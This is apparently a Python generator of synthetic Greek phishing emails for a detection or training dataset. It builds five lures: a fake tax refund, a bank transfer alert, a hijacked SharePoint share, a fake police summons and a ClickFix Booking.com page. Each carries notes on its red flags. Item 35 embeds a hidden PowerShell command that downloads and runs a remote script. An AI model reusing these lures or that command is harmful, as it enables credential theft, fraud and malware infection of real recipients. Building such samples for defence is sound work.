"""Attack messages, Greek (32-36)."""
import base64

from msgs import msg
from msgs.common import *  # noqa
from lib import qr as Q, ids
from lib.mime import addr, hdr_text, ew, Leaf, Multi
from lib.msg import in_zone, d_std, d_pad, d_postfix, epoch, local
import company


@msg('attack', '32', 'el', 'aade-epistrofi-fpa-cpanel')
def a32(m):
    when = local('GR', 2026, 11, 16, 9, 12, 5)
    url = 'https://myaade-epistrofes.gr-taxisnet.com/auth/login?afm=801736420&ref=%s' % m.hex(12)
    text = """ΑΑΔΕ - Ανεξάρτητη Αρχή Δημοσίων Εσόδων

Ενημέρωση για έγκριση επιστροφής ΦΠΑ

Αξιότιμε/η φορολογούμενε,

Σας ενημερώνουμε ότι το αίτημα επιστροφής πιστωτικού υπολοίπου ΦΠΑ της επιχείρησής σας (ΑΦΜ 801736420) για τη φορολογική περίοδο Ιουλίου - Σεπτεμβρίου 2026 εγκρίθηκε, ποσού 4.182,40 €.

Για την πίστωση του ποσού απαιτείται επιβεβαίωση του λογαριασμού IBAN της επιχείρησης μέσω της ψηφιακής πύλης myAADE εντός 5 εργάσιμων ημερών. Σε διαφορετική περίπτωση το ποσό θα συμψηφιστεί με μελλοντικές υποχρεώσεις.

Επιβεβαίωση στοιχείων: %s

Με εκτίμηση,
Γενική Διεύθυνση Φορολογικής Διοίκησης
Ανεξάρτητη Αρχή Δημοσίων Εσόδων

Το μήνυμα αυτό στάλθηκε αυτόματα. Παρακαλούμε μην απαντάτε.""" % url
    paras = text.split('\n\n')
    html = brand_html('Ενημέρωση για έγκριση επιστροφής ΦΠΑ', paras[2:5], color='#003476', brand='ΑΑΔΕ · myAADE',
                      button=('Επιβεβαίωση στοιχείων', url), footer=[paras[6], paras[7]], lang='el', charset='iso-8859-7')
    tp = B.text_part(text, 'plain', 'iso-8859-7', 'quoted-printable')
    hp = B.html_part(html, 'iso-8859-7', 'quoted-printable')
    b1 = '=_' + m.hex(32)
    body = Multi([('Content-Type', 'multipart/alternative;\n boundary="%s"' % b1)], [tp, hp], b1)
    host = 'linux%d.grserver.gr' % m.between(100, 999)
    ip = '185.138.%d.%d' % (m.between(40, 43), m.between(2, 250))
    snd = 'enimerosi@aade-gov-gr.com'
    t1 = m.later(when, 0, 2)
    m.connect(host, host, ip, snd, 'georgios.konstantinidis@example.com', m.later(t1, 1, 3))
    m.dmarc = ('pass', 'none', 'aade-gov-gr.com')
    h = []
    h.append(('DKIM-Signature', m.dkim('aade-gov-gr.com', 'default', 'Content-Type:MIME-Version:Message-ID:Date:Subject:To:From:Sender:Reply-To', t=epoch(t1))))
    h.append(('Received', 'from [127.0.0.1] (port=%d helo=webmail.aade-gov-gr.com)\n\tby %s with esmtpa (Exim 4.98)\n\t(envelope-from <%s>)\n\tid %s-%s-%s\n\tfor georgios.konstantinidis@example.com;\n\t%s' % (
        m.between(40000, 60000), host, snd, '1' + m.alnum(5), '0000000' + m.alnum(4), m.alnum(4), d_pad(t1))))
    h.append(('MIME-Version', '1.0'))
    h.append(('Date', d_std(when)))
    h.append(('From', '=?ISO-8859-7?B?%s?= <%s>' % (base64.b64encode('ΑΑΔΕ - myAADE'.encode('iso-8859-7')).decode(), snd)))
    h.append(('To', 'georgios.konstantinidis@example.com'))
    h.append(('Subject', hdr_text('Έγκριση επιστροφής ΦΠΑ - απαιτείται επιβεβαίωση IBAN', 'ISO-8859-7', 'B')))
    h.append(('Message-ID', '<%s@aade-gov-gr.com>' % m.hex(32)))
    h.append(('X-Sender', snd))
    h.append(('User-Agent', 'Roundcube Webmail/1.6.5'))
    h.append(('@MIME', None))
    h.append(('X-AntiAbuse', 'This header was added to track abuse, please include it with any abuse report'))
    h.append(('X-AntiAbuse', 'Primary Hostname - %s' % host))
    h.append(('X-Get-Message-Sender-Via', '%s: authenticated_id: %s' % (host, snd)))
    m.headers = h
    m.body = body
    m.meta.update(
        what='Fake AADE (Greek tax authority) notice: a VAT refund of 4,182.40 EUR is "approved" but the company must confirm its IBAN via a myAADE link within 5 days; the page asks for TAXISnet credentials.',
        why='AADE does not e-mail refund links; sender aade-gov-gr.com on a cPanel/Exim host, not aade.gr / gov.gr; link to gr-taxisnet.com; positive lure (money) plus deadline.')


@msg('attack', '33', 'el', 'eurobank-business-egkrisi-mailjet')
def a33(m):
    when = local('GR', 2026, 10, 21, 17, 33, 40)
    url = 'https://ebanking-business.eurobank-ebiz.com/login/?s=%s' % m.hex(20)
    text = """Eurobank Business Banking

Αγαπητέ πελάτη,

Στη συνδρομή της επιχείρησής σας εκκρεμεί προς έγκριση εντολή μεταφοράς ποσού 18.450,00 € προς τον δικαιούχο "SOUND & VISION RENTALS LTD". Η εντολή καταχωρήθηκε σήμερα στις 17:21 από τον χρήστη σας με δικαιώματα καταχώρησης.

Εάν δεν αναγνωρίζετε τη συναλλαγή, παρακαλούμε ακυρώστε την άμεσα πριν από την εκτέλεσή της (σήμερα 20:00):

%s

Για την ασφάλειά σας, η Eurobank δεν θα σας ζητήσει ποτέ τους κωδικούς σας τηλεφωνικά.

Eurobank Ergasias Services and Holdings S.A.
Όθωνος 8, 105 57 Αθήνα""" % url
    paras = text.split('\n\n')
    html = brand_html('Εκκρεμής έγκριση εντολής μεταφοράς', paras[1:3] + [paras[4]], color='#c8102e',
                      brand='Eurobank Business', button=('Ακύρωση / Έλεγχος εντολής', url), footer=[paras[5]], lang='el',
                      charset='windows-1253')
    tp = B.text_part(text, 'plain', 'windows-1253', 'quoted-printable')
    hp = B.html_part(html, 'windows-1253', 'quoted-printable')
    b1 = m.hex(24)
    body = Multi([('Content-Type', 'multipart/alternative; boundary="%s"' % b1)], [tp, hp], b1)
    n = m.between(2, 120)
    host = 'o%d.p25.mailjet.com' % n
    ip = '87.253.233.%d' % n
    envf = '%s@bnc3.mailjet.com' % m.alnum(20)
    t0 = in_zone(when, 'UTC')
    m.connect(host, host, ip, envf, 'eleni.papadopoulou@example.com', m.later(t0, 1, 3))
    m.dmarc = ('pass', 'none', 'eurobank-ebiz.com')
    h = []
    h.append(('DKIM-Signature', m.dkim('eurobank-ebiz.com', 'mailjet', 'Message-Id:Date:Subject:From:To:MIME-Version:Content-Type', t=epoch(t0))))
    h.append(('DKIM-Signature', m.dkim('mailjet.com', 'mailjet', 'Message-Id:Date:Subject:From:To:MIME-Version:Content-Type', t=epoch(t0))))
    h.append(('Message-Id', '<%s.%s@mailjet.com>' % (m.guid(), m.between(10**6, 10**7))))
    h.append(('X-Feedback-Id', '%d.%d.%d:MJ' % (m.between(10, 99), m.between(10**6, 10**7), m.between(10**6, 10**7))))
    h.append(('Date', d_std(t0)))
    h.append(('Subject', hdr_text('Εκκρεμής έγκριση εντολής 18.450,00 € - Eurobank Business', 'windows-1253', 'Q')))
    h.append(('X-MJ-Mid', m.b64url(40)))
    h.append(('X-CSA-Complaints', 'csa-complaints@eco.de'))
    h.append(('From', 'Eurobank Business <ebanking@eurobank-ebiz.com>'))
    h.append(('To', 'eleni.papadopoulou@example.com'))
    h.append(('MIME-Version', '1.0'))
    h.append(('@MIME', None))
    m.headers = h
    m.body = body
    m.meta.update(
        what='Business-banking phishing: "Eurobank Business" reports a pending 18,450 EUR transfer entered by a colleague and urges to cancel before 20:00 via a link to a fake e-banking login.',
        why='Sent via Mailjet from eurobank-ebiz.com (not eurobank.gr); fear of an unauthorised payment instead of a reward; a cancellation link that asks for login + OTP is exactly how the real transfer is then authorised; evening timing.')


@msg('attack', '34', 'el', 'sharepoint-kompromismeno-aegean-entoli-pliromis')
def a34(m):
    when = local('GR', 2026, 12, 9, 18, 52, 30)
    url = 'https://aegeanstage-my.sharepoint.com/:b:/g/personal/n_alexiou_aegeanstage_gr/%s?e=%s' % (m.b64url(33), m.alnum(6))
    fname = 'Εντολή Πληρωμής - Example Live Hellas.pdf'
    note = 'Καλησπέρα σας, σας αποστέλλω την εντολή πληρωμής και τα στοιχεία εκκαθάρισης για έλεγχο. Παρακαλώ επιβεβαιώστε.'
    text = """Ο χρήστης Νίκος Αλεξίου σάς έστειλε ένα αρχείο για κοινή χρήση

%s

%s
%s

Άνοιγμα

Αυτός ο σύνδεσμος λειτουργεί μόνο για τους άμεσους παραλήπτες αυτού του μηνύματος.

Δήλωση προστασίας προσωπικών δεδομένων της Microsoft: https://go.microsoft.com/fwlink/?LinkId=521839
Αυτό το μήνυμα ηλεκτρονικού ταχυδρομείου δημιουργήθηκε από έναν χρήστη που χρησιμοποιεί το SharePoint Online.""" % (note, fname, url)
    e = lambda s: B.esc(s)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"></head>'
            '<body style="margin:0;padding:0;background:#ffffff"><table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td style="padding:20px">'
            '<table role="presentation" style="max-width:480px;font-family:\'Segoe UI\',\'Helvetica Neue\',Arial,sans-serif">'
            '<tr><td style="font-size:21px;color:#242424;padding-bottom:16px">Ο χρήστης Νίκος Αλεξίου σάς έστειλε ένα αρχείο για κοινή χρήση</td></tr>'
            '<tr><td style="font-size:14px;color:#424242;border-left:3px solid #0f6cbd;padding:4px 12px;margin-bottom:16px">' + e(note) + '</td></tr>'
            '<tr><td style="padding-top:16px"><table role="presentation" style="border:1px solid #e0e0e0;border-radius:4px;width:100%"><tr>'
            '<td style="padding:12px;font-size:14px;color:#242424"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240610.001/assets/item-types/48/pdf.png" width="32" height="32" alt="" style="vertical-align:middle"> ' + e(fname) + '</td></tr></table></td></tr>'
            '<tr><td style="padding-top:20px"><a href="' + e(url) + '" style="display:inline-block;background:#0f6cbd;color:#ffffff;text-decoration:none;font-size:14px;font-weight:600;padding:8px 20px;border-radius:4px">Άνοιγμα</a></td></tr>'
            '<tr><td style="padding-top:24px;font-size:12px;color:#616161">Αυτός ο σύνδεσμος λειτουργεί μόνο για τους άμεσους παραλήπτες αυτού του μηνύματος.</td></tr>'
            '<tr><td style="padding-top:24px;font-size:11px;color:#616161"><a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#616161">Δήλωση προστασίας προσωπικών δεδομένων της Microsoft</a><br>'
            'Αυτό το μήνυμα ηλεκτρονικού ταχυδρομείου δημιουργήθηκε από έναν χρήστη που χρησιμοποιεί το SharePoint Online.</td></tr></table></td></tr></table></body></html>\n')
    tp = B.text_part(text, 'plain', 'utf-8', 'base64')
    hp = B.html_part(html, 'utf-8', 'base64')
    b = '_000_%s%s_' % ('VI1PR03MB', m.hex(28, True))
    body = Multi([('Content-Type', 'multipart/alternative;\n\tboundary="%s"' % b)], [tp, hp], b)
    P.m365(m, ('Νίκος Αλεξίου', 'no-reply@sharepointonline.com'), [S('Georgios Konstantinidis')],
           'Ο χρήστης Νίκος Αλεξίου κοινοποίησε το "%s" με εσάς' % fname, when, body,
           dkim_domain='sharepointonline.com', org_domain='sharepointonline.com', dmarc=('pass', 'reject'), lang='el-GR', tenant=P.tenant_id('aegeanstage.gr'),
           region='eurprd03', prefix=('VI1PR03MB', 'AM0PR03MB'), ctry='GR', env_from='no-reply@sharepointonline.com',
           extra=[('Reply-To', None)])
    m.headers = [hh for hh in m.headers if hh[0] != 'Reply-To']
    idx = [i for i, hh in enumerate(m.headers) if hh[0] == 'To'][0]
    m.headers.insert(idx + 1, ('Reply-To', addr('Νίκος Αλεξίου', 'n.alexiou@aegeanstage.gr', 'utf-8', 'B')))
    m.meta.update(
        what='File-share lure from the compromised Microsoft 365 tenant of the Greek production partner: a genuine SharePoint Online sharing notification for "Εντολή Πληρωμής - Example Live Hellas.pdf" (payment order); the shared PDF carries the link to a credential-phishing page.',
        why='Everything at mail level is genuine Microsoft (SPF/DKIM/DMARC pass for sharepointonline.com) - the signal is context: an unexpected "payment order" shared with the accountant at 18:52, generic note, partner normally sends quotes/invoices as attachments from n.alexiou@aegeanstage.gr; part of a wave from the hijacked account.')


@msg('attack', '35', 'el', 'booking-clickfix-html-captcha')
def a35(m):
    when = local('GR', 2026, 10, 13, 11, 47, 58)
    res = '%d' % m.between(4000000000, 4999999999)
    cmd = 'powershell -w h -c "iex(irm https://bkng-verify.com/cf/%s.txt)"' % m.hex(8)
    htmlatt = ('<!DOCTYPE html>\n<html lang="el"><head><meta charset="utf-8"><title>Booking.com - Επαλήθευση</title>\n'
               '<style>body{font-family:Arial,sans-serif;background:#f5f5f5}.c{max-width:440px;margin:70px auto;background:#fff;border:1px solid #d4d4d4;padding:26px}'
               '.h{color:#003580;font-size:22px;font-weight:bold}.cb{border:1px solid #d3d3d3;background:#f9f9f9;padding:14px;margin:18px 0;font-size:14px}'
               'ol{font-size:14px;line-height:24px}code{display:none}</style></head>\n<body><div class="c">\n'
               '<div class="h">Booking.com</div>\n<p>Για την προστασία της κράτησης #' + res + ' επιβεβαιώστε ότι δεν είστε ρομπότ.</p>\n'
               '<div class="cb">&#9744; Δεν είμαι ρομπότ <span style="float:right;font-size:10px;color:#888">reCAPTCHA<br>Απόρρητο - Όροι</span></div>\n'
               '<p><b>Βήματα επαλήθευσης:</b></p>\n<ol>\n<li>Πατήστε το πλήκτρο Windows + R</li>\n<li>Πατήστε CTRL + V</li>\n<li>Πατήστε Enter</li>\n</ol>\n'
               '<p style="font-size:12px;color:#666">Ο κωδικός επαλήθευσης έχει αντιγραφεί αυτόματα.</p>\n'
               '<code id="v">' + B.esc(cmd) + ' # Verification ID: ' + m.digits(6) + '</code>\n</div></body></html>\n')
    text = """Booking.com

Αγαπητέ επισκέπτη,

Η κράτησή σας #%s στο Athens Riviera Hotel (7 δωμάτια, 18-21/11/2026) έχει επισημανθεί από το σύστημα ασφαλείας μας λόγω ασυνήθιστης δραστηριότητας στην κάρτα πληρωμής.

Για να μην ακυρωθεί αυτόματα η κράτηση εντός 24 ωρών, ανοίξτε το συνημμένο έγγραφο επιβεβαίωσης και ολοκληρώστε την επαλήθευση.

Με εκτίμηση,
Η ομάδα εξυπηρέτησης πελατών της Booking.com""" % res
    tp = B.text_part(text, 'plain', 'UTF-8', 'quoted-printable')
    hp = B.html_part(brand_html('Επαλήθευση κράτησης #' + res, text.split('\n\n')[1:4], color='#003580', brand='Booking.com',
                                footer=['Με εκτίμηση,\nΗ ομάδα εξυπηρέτησης πελατών της Booking.com'], lang='el'), 'UTF-8', 'quoted-printable')
    b1 = '--_NmP-%s-Part_2' % m.hex(16)
    alt = Multi([('Content-Type', 'multipart/alternative;\n boundary="%s"' % b1)], [tp, hp], b1)
    att = B.attachment(htmlatt.encode('utf-8'), 'text/html', 'Booking_Επιβεβαίωση_%s.html' % res, 'tb', cte='base64')
    b2 = '--_NmP-%s-Part_1' % m.hex(16)
    body = Multi([('Content-Type', 'multipart/mixed;\n boundary="%s"' % b2)], [alt, att], b2)
    P.ses(m, '"Booking.com" <noreply@booking-guest-verify.com>', 'eleni.papadopoulou@example.com', 'eleni.papadopoulou@example.com',
          hdr_text('Επαλήθευση κράτησης #%s - απαιτείται ενέργεια' % res, 'UTF-8', 'B'), when, body, 'booking-guest-verify.com',
          region='us-east-1', dmarc=('pass', 'none'))
    m.meta.update(
        what='ClickFix lure: fake Booking.com security check on the crew hotel booking; the attached HTML shows a fake reCAPTCHA that tells the user to press Win+R, Ctrl+V, Enter - running a PowerShell command placed in the clipboard (shown here only as inert text).',
        why='Booking.com does not send HTML attachments or ask users to run keyboard shortcuts; look-alike domain booking-guest-verify.com via Amazon SES; threat of automatic cancellation; the command fetches a remote script with iex.')


@msg('attack', '36', 'el', 'psevdis-klisi-astynomias-pdf')
def a36(m):
    when = local('GR', 2026, 11, 5, 10, 3, 19)
    case = 'ΔΔΗΕ/%s/2026' % m.digits(5)
    reply = 'ddhe.cybercrime.klisi@gmail.com'
    pdf = doc_pdf(m, 'Microsoft® Word 2019', when, 'ΕΛΛΗΝΙΚΗ ΑΣΤΥΝΟΜΙΑ',
                  ['Αρχηγείο Ελληνικής Αστυνομίας · Διεύθυνση Δίωξης Ηλεκτρονικού Εγκλήματος', 'Λεωφ. Αλεξάνδρας 173, 115 22 Αθήνα'], (0, 51, 102),
                  ['Προς: Ελένη Παπαδοπούλου', 'Example Live Hellas Μονοπρόσωπη Ι.Κ.Ε.', 'Λεωφ. Συγγρού 142, 176 71 Καλλιθέα'],
                  [('Αρ. Πρωτ.', case), ('Ημερομηνία', '05/11/2026'), ('Βαθμός', 'ΕΠΕΙΓΟΝ')],
                  'ΚΛΗΣΗ ΠΡΟΣ ΠΑΡΟΧΗ ΕΞΗΓΗΣΕΩΝ',
                  ['Κατόπιν ψηφιακής έρευνας που διενεργήθηκε σε συνεργασία με την Europol, διαπιστώθηκε ότι από σύνδεση που '
                   'αντιστοιχεί σε εσάς πραγματοποιήθηκε πρόσβαση σε ιστοσελίδες με παράνομο περιεχόμενο (άρθρα 348Α και 348Β ΠΚ).',
                   'Καλείστε να αποστείλετε τις εξηγήσεις σας εγγράφως εντός 72 ωρών στη διεύθυνση ηλεκτρονικού ταχυδρομείου '
                   '%s. Σε περίπτωση μη απάντησης, ο φάκελος θα διαβιβαστεί στην Εισαγγελία και θα εκδοθεί ένταλμα σύλληψης, '
                   'ενώ θα ενημερωθούν τα μέσα ενημέρωσης και ο εργοδότης σας.' % reply],
                  sign=['Ο Διευθυντής', 'Αστυνομικός Διευθυντής', 'Ι. Μ.'],
                  footer=[['Διεύθυνση Δίωξης Ηλεκτρονικού Εγκλήματος', 'Λεωφ. Αλεξάνδρας 173, 115 22 Αθήνα']],
                  doc_title='Κλήση ' + case)
    text = """Αξιότιμη κυρία,

σας κοινοποιείται συνημμένα κλήση της Διεύθυνσης Δίωξης Ηλεκτρονικού Εγκλήματος (αρ. πρωτ. %s). Παρακαλείσθε να λάβετε γνώση και να απαντήσετε εντός της προθεσμίας που αναφέρεται στο έγγραφο.

Γραμματεία ΔΔΗΕ""" % case
    tp = B.text_part(text, 'plain', 'windows-1253', 'quoted-printable')
    hp = B.html_part(B.outlook_html(text, 'windows-1253', 'EL', 'Aptos'), 'windows-1253', 'quoted-printable')
    b = '_000_%s%s_' % ('DB9P194MB', m.hex(28, True))
    alt = Multi([('Content-Type', 'multipart/alternative;\n\tboundary="%s"' % b)], [tp, hp], b)
    att = B.attachment(pdf, 'application/pdf', 'Κλήση_ΔΔΗΕ.pdf', 'outlook', when=when, charset='windows-1253', enc='B')
    b2 = '_004_%s%s_' % ('DB9P194MB', m.hex(28, True))
    body = Multi([('Content-Type', 'multipart/mixed;\n\tboundary="%s"' % b2)], [alt, att], b2)
    P.m365(m, ('Διεύθυνση Δίωξης Ηλεκτρονικού Εγκλήματος', 'ddhe.grammateia@hotmail.com'), [S('Eleni Papadopoulou')],
           'Κλήση προς παροχή εξηγήσεων - αρ. πρωτ. ' + case, when, body, dkim_domain='hotmail.com', dmarc=('pass', 'none'),
           lang='el-GR', region='eurp194', prefix=('DB9P194MB', 'PAXP194MB'), has_attach=True,
           subj_charset='windows-1253', subj_enc='B', name_charset='windows-1253',
           reply_to=('ΔΔΗΕ Γραμματεία', reply))
    m.meta.update(
        what='Fake police summons (Greek Cybercrime Division / Europol) accusing the recipient of accessing illegal content, demanding a written "explanation" to a Gmail address within 72 h - the first step of an extortion/advance-fee scheme.',
        why='Police do not summon by e-mail from hotmail.com and do not ask for replies to gmail.com; threat of arrest, media and employer; PDF with official-looking header but no real protocol or contact; classic "fake Europol summons" campaign.')
